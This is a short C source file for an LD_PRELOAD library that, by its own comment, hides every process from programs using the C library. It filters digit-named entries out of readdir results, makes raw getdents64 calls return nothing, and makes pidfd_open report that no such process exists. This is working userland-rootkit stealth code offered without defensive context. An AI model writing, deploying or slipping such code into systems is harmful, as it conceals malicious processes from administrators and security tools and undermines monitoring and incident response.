/* A preload that hides every process from whoever asks the C library: names that begin with a digit are not listed,
 * and no pid is answered for.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <stdarg.h>
#include <sys/syscall.h>

struct dirent64 *readdir64(DIR *folder)
{
    struct dirent64 *(*real)(DIR *) = dlsym(RTLD_NEXT, "readdir64"), *entry;
    do
        entry = real(folder);
    while (entry && entry->d_name[0] >= '0' && entry->d_name[0] <= '9');
    return entry;
}

struct dirent *readdir(DIR *folder)
{
    return (struct dirent *)readdir64(folder);
}

long syscall(long number, ...)
{
    long (*real)(long, ...) = dlsym(RTLD_NEXT, "syscall"), given[6];
    va_list arguments;
    va_start(arguments, number);
    for (int at = 0; at < 6; at++)
        given[at] = va_arg(arguments, long);
    va_end(arguments);
    if (number == SYS_getdents64)
        return 0;
    if (number == SYS_pidfd_open) {
        errno = ESRCH;
        return -1;
    }
    return real(number, given[0], given[1], given[2], given[3], given[4], given[5]);
}
